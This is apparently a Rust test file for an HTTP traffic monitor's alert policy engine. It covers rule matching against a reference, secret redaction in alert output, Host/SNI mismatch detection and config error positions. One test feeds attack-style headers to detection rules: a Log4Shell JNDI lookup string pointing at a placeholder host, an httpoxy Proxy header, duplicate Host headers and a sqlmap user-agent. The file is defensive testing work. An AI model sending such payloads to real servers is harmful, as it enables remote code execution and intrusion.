//! Policies: forty rules on 100,000 exchanges against a slow reference, the place of each mistake, and secrets.

mod reference;

use std::{net::SocketAddr, sync::Arc};

use http_decode::{Exchange, Malformed, Protocol, Side, Unredacted};

use self::reference::{Reference, Spec};
use super::{Policy, Rules};
use crate::{
    correlate::{Observed, ObservedKind},
    event::{Address, AddressSource},
    output::{Format, Style, sample},
    redact::{AlertLine, Line, Redacted, Redactor, Rules as RedactRules},
};

const FORTY: &str = include_str!("../../../../../fixtures/policy/forty.toml");
const STARTER: &str = include_str!("../../../../../fixtures/policy/starter.toml");

/// Returns a policy, and a redactor that answers what it asks.
fn policy(text: &str) -> (Policy, Redactor) {
    let policy = Policy::new(Arc::new(Rules::parse(text).unwrap()));
    let redactor = Redactor::new(RedactRules::default()).with_facts(policy.wanted_facts());
    (policy, redactor)
}

/// The exchange of [`sample`] with what a specification says.
fn exchange(spec: &Spec) -> Exchange {
    let mut exchange = sample::whole();
    exchange.side = if spec.side == "server" {
        Side::Server
    } else {
        Side::Client
    };
    exchange.protocol = match spec.protocol {
        "http/2" => Protocol::Http2,
        _ => Protocol::Http11,
    };
    let fields = |all: &[(&'static str, String)]| all.iter().map(|(name, value)| sample::field(name, value)).collect();
    if let Some(request) = &mut exchange.request {
        request.head.method = Some(spec.method.into());
        request.head.target_authority = spec.host.map(|host| Unredacted::new(host.as_bytes()));
        request.head.path = Some(Unredacted::new(spec.path.as_bytes()));
        request.head.fields = fields(&spec.request);
        request.head.malformed = spec.request_malformed.then_some(Malformed::ALL[0]);
    }
    if let Some(response) = &mut exchange.response {
        response.head.status = Some(spec.status);
        response.head.fields = fields(&spec.response);
        response.head.malformed = spec.response_malformed.then_some(Malformed::ALL[0]);
    }
    exchange
}

fn observed(spec: &Spec) -> Observed {
    let mut observed = sample::observed(ObservedKind::Exchange(Box::new(exchange(spec))), AddressSource::Bio);
    let address = SocketAddr::new(spec.client.into(), 50_000);
    Arc::make_mut(&mut observed.connection).remote = Some(Address::from(address));
    observed
}

fn alert<'l>(line: &'l Redacted<Line<'_>>) -> &'l AlertLine<'l> {
    match &**line {
        Line::Alert(alert) => alert,
        Line::Exchange(_)
        | Line::Hop(_)
        | Line::End(_)
        | Line::Loss(_)
        | Line::Connection(_)
        | Line::Health(_)
        | Line::Hooks(_)
        | Line::Audit(_) => panic!("not an alert"),
    }
}

#[test]
fn forty_rules_find_in_a_hundred_thousand_exchanges_what_a_slow_reference_finds() {
    let (mut policy, mut redactor) = policy(FORTY);
    let mut reference = Reference::new(FORTY);
    let mut of_rules = std::collections::BTreeMap::<String, u64>::new();
    for (number, spec) in reference::specs(100_000).enumerate() {
        let observed = observed(&spec);
        let alerts = policy.judge(&redactor.redact(&observed), spec.at_ns);
        let found: Vec<_> = alerts
            .iter()
            .map(|line| {
                let alert = alert(line);
                let field = alert.evidence.field.as_ref().map(ToString::to_string);
                (alert.rule.to_string(), field, alert.evidence.count)
            })
            .collect();
        assert_eq!(found, reference.judge(&spec), "{number}: {spec:?}");
        for (rule, ..) in found {
            *of_rules.entry(rule).or_default() += 1;
        }
    }
    // Each rule has matched, and none always does.
    assert_eq!(of_rules.len(), 40, "{of_rules:?}");
    assert!(of_rules.values().all(|count| *count < 100_000), "{of_rules:?}");
    assert_eq!(policy.alerts(), of_rules.values().sum::<u64>());
    assert_eq!(policy.take_forgotten(), 0);
}

#[test]
fn no_alert_in_any_format_shows_a_secret() {
    let (mut policy, mut redactor) = policy(FORTY);
    for spec in reference::specs(3_000) {
        let observed = observed(&spec);
        for alert in policy.judge(&redactor.redact(&observed), spec.at_ns) {
            for format in [Format::Json, Format::Text, Format::Line, Format::Combined, Format::Har] {
                let shared = Shared::default();
                let mut sink = format.open(shared.clone(), Style::default());
                sink.write(&alert).unwrap();
                sink.finish().unwrap();
                let text = shared.text();
                assert!(!text.contains(reference::SECRET), "{text}");
                assert_eq!(
                    text.contains("ALERT") || text.contains("\"alert\""),
                    format_has_alerts(format),
                    "{text}"
                );
            }
        }
    }
    assert!(policy.alerts() > 1_000);
}

const fn format_has_alerts(format: Format) -> bool {
    matches!(format, Format::Json | Format::Text | Format::Line)
}

/// What sinks wrote.
#[derive(Clone, Default)]
struct Shared(Arc<std::sync::Mutex<Vec<u8>>>);

impl Shared {
    fn bytes(&self) -> std::sync::MutexGuard<'_, Vec<u8>> {
        self.0.lock().unwrap()
    }

    fn text(&self) -> String {
        String::from_utf8(self.bytes().clone()).unwrap()
    }
}

impl std::io::Write for Shared {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.bytes().extend(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_head_that_was_joined_late_lacks_nothing() {
    let text = "[[rule]]\nname = \"a\"\nin = \"response\"\nrequired = [\"server\"]\n";
    let judged = |line: &Redacted<Line<'_>>| policy(text).0.judge(line, 1).len();
    assert_eq!(judged(&sample::half()), 0);
    let without = sample::exchange_with(|exchange| {
        exchange.response.as_mut().unwrap().head.fields = http_decode::Fields::default();
    });
    assert_eq!((judged(&without), judged(&sample::exchange())), (1, 0));
    // A half has no request to be judged.
    let request = "[[rule]]\nname = \"a\"\nrequired = [\"x-none\"]\n";
    assert_eq!(policy(request).0.judge(&sample::half(), 1).len(), 0);
}

#[test]
fn a_request_for_another_host_than_the_handshake_is_told_and_what_is_unknown_is_not() {
    let text = "[[rule]]\nname = \"a\"\nhost_differs_from_sni = true\n";
    let told = |server_name: Option<&str>, host: Option<&str>, method: &'static str| {
        let mut exchange = sample::whole();
        let head = &mut exchange.request.as_mut().unwrap().head;
        head.method = Some(method.into());
        head.target_authority = None;
        head.fields = match host {
            Some(host) => sample::fields([sample::field("host", host)]),
            None => sample::fields([]),
        };
        let mut observed = sample::observed(ObservedKind::Exchange(Box::new(exchange)), AddressSource::Bio);
        let server_name = server_name.map(|name| Unredacted::new(name.as_bytes()));
        Arc::make_mut(&mut observed.connection).server_name = server_name;
        let (mut policy, mut redactor) = policy(text);
        let alerts = policy.judge(&redactor.redact(&observed), 1);
        let names = alerts
            .iter()
            .map(|line| alert(line).evidence.server_name.as_ref().unwrap().to_string());
        names.collect::<Vec<_>>()
    };
    for (server_name, host) in [
        (Some("a.test"), Some("a.test")),
        (Some("a.test"), Some("A.Test.:8443")),
        (Some("A.TEST."), Some("a.test")),
        (None, Some("a.test")),
        (Some("a.test"), None),
        (Some("a.test"), Some("")),
    ] {
        assert_eq!(
            told(server_name, host, "GET"),
            Vec::<String>::new(),
            "{server_name:?} {host:?}"
        );
    }
    assert_eq!(
        told(Some("a.test"), Some("b.test:443"), "CONNECT"),
        Vec::<String>::new()
    );
    assert_eq!(told(Some("a.test"), Some("b.test"), "GET"), ["a.test"]);
    assert_eq!(told(Some("a.test"), Some("127.0.0.1:8443"), "GET"), ["a.test"]);
    assert_eq!(told(Some("u:hunter2@a.test"), Some("x"), "GET"), ["[redacted]@a.test"]);
}

#[test]
fn both_sides_of_a_hop_are_judged() {
    let text = "[[rule]]\nname = \"a\"\nin = \"response\"\nforbidden = [\"x-powered-by\"]\n[[rule]]\nname = \"b\"\nrequired = [\"x-none\"]\n";
    let alerts = policy(text).0.judge(&sample::hop(), 1);
    let names: Vec<_> = alerts.iter().map(|line| alert(line).rule.to_string()).collect();
    assert_eq!(names, ["b", "a", "b"]);
}

#[test]
fn evidence_is_masked_and_cut() {
    let text = "[[rule]]\nname = \"a\"\nforbidden = [\"authorization\", \"x-long\"]\n[[rule]]\nname = \"b\"\nfield = \"x-long\"\nmatches = \"^a\"\n";
    let alerts = policy(text).0.judge(&sample::exchange(), 1);
    assert_eq!(alert(&alerts[0]).evidence.value.as_deref(), Some("Bearer [redacted]"));
    let long = sample::exchange_with(|exchange| {
        let field = sample::field("x-long", &"a\u{e9}".repeat(500));
        exchange.request.as_mut().unwrap().head.fields = sample::fields([field]);
    });
    for alert_of in policy(text).0.judge(&long, 1) {
        let value = alert(&alert_of).evidence.value.as_ref().unwrap().to_string();
        assert!(
            value.len() <= 256 && value.ends_with("a\u{2026}") || value.ends_with("\u{e9}\u{2026}"),
            "{value}"
        );
    }
}

#[test]
fn the_place_of_each_mistake_is_marked() {
    let rule = "[[rule]]\nname = \"a\"\n";
    for (text, line, column, word) in [
        ("rule = 1", 1, 8, "sequence"),
        ("[[rule]]\nrequired = []\n", 1, 1, "name"),
        ("[[rule]]\nname = \"a\n", 2, 10, "string"),
        (&*format!("{rule}colour = 1\n"), 3, 1, "colour"),
        (&*format!("{rule}severity = \"bad\"\n"), 3, 12, "bad"),
        (rule, 1, 1, "one of"),
        (&*format!("{rule}malformed = true\nmax_fields = 1\n"), 1, 1, "several"),
        (&*format!("{rule}malformed = false\n"), 3, 13, "true"),
        (&*format!("{rule}host_differs_from_sni = false\n"), 3, 25, "true"),
        (
            &*format!("{rule}in = \"response\"\nhost_differs_from_sni = true\n"),
            4,
            25,
            "of the request",
        ),
        (&*format!("{rule}required = [\"ok\", \"no name\"]\n"), 3, 19, "header"),
        (&*format!("{rule}matches = \"(\"\n"), 3, 11, "unclosed"),
        (&*format!("{rule}matches_not = \"a\"\n"), 3, 15, "field"),
        (&*format!("{rule}field = \"a\"\n"), 3, 9, "matches"),
        (
            &*format!("{rule}rate = {{ per = \"nobody\", more_than = 1, within = \"1s\" }}\n"),
            3,
            16,
            "client",
        ),
        (
            &*format!("{rule}rate = {{ per = \"client\", more_than = 1, within = \"soon\" }}\n"),
            3,
            50,
            "number",
        ),
        (
            &*format!("{rule}rate = {{ per = \"client\", more_than = 1, within = \"0s\" }}\n"),
            3,
            50,
            "no time",
        ),
        (
            &*format!("{rule}in = \"request\"\nrate = {{ per = \"client\", more_than = 1, within = \"1s\" }}\n"),
            3,
            6,
            "head",
        ),
        (
            &*format!("{rule}when = {{ status = \"9xx\" }}\nmalformed = true\n"),
            3,
            19,
            "status",
        ),
        (
            &*format!("{rule}when = {{ path = \"[\" }}\nmalformed = true\n"),
            3,
            17,
            "unclosed",
        ),
        (
            &*format!("{rule}malformed = true\n{rule}malformed = true\n"),
            5,
            8,
            "already",
        ),
    ] {
        let mistake = Rules::parse(text).unwrap_err().to_string();
        let place = format!("line {line}, column {column}:\n");
        assert!(
            mistake.starts_with(&place) && mistake.contains(word),
            "{text}\n{mistake}"
        );
    }
}

#[test]
fn the_starting_set_is_quiet_on_an_ordinary_exchange_and_not_on_an_odd_one() {
    let ordinary = sample::exchange_with(|exchange| {
        let fields = [("host", "a.test"), ("user-agent", "curl/7.88.1"), ("accept", "*/*")];
        let fields = fields.map(|(name, value)| sample::field(name, value));
        exchange.request.as_mut().unwrap().head.fields = sample::fields(fields);
    });
    let names = |line: &Redacted<Line<'_>>| {
        let alerts = policy(STARTER).0.judge(line, 1);
        alerts
            .iter()
            .map(|line| alert(line).rule.to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&ordinary), Vec::<String>::new());
    let odd = sample::exchange_with(|exchange| {
        let fields = [
            ("host", "a.test"),
            ("host", "b.test"),
            ("proxy", "http://c.test"),
            ("user-agent", "sqlmap/1.7"),
            ("x-api-version", "${JNDI:ldap://c.test}"),
        ];
        let fields = fields.map(|(name, value)| sample::field(name, value));
        exchange.request.as_mut().unwrap().head.fields = sample::fields(fields);
    });
    assert_eq!(
        names(&odd),
        ["request-smuggling-duplicates", "httpoxy", "log4shell", "scanner"]
    );
}
